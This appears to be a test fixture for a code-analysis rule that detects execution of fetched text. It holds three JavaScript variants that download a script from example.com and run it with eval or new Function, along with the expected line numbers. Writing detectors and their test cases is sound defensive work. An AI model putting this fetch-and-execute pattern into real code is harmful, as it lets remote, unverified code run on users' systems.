// expect: exec-of-fetched-text:3 exec-of-fetched-text:4 exec-of-fetched-text:5
const answer = await fetch('https://example.com/tool.js');
eval(await answer.text());
fetch('https://example.com/tool.js').then((one) => one.text()).then((text) => new Function(text)());
fetch('https://example.com/tool.js').then((one) => one.text()).then(eval);
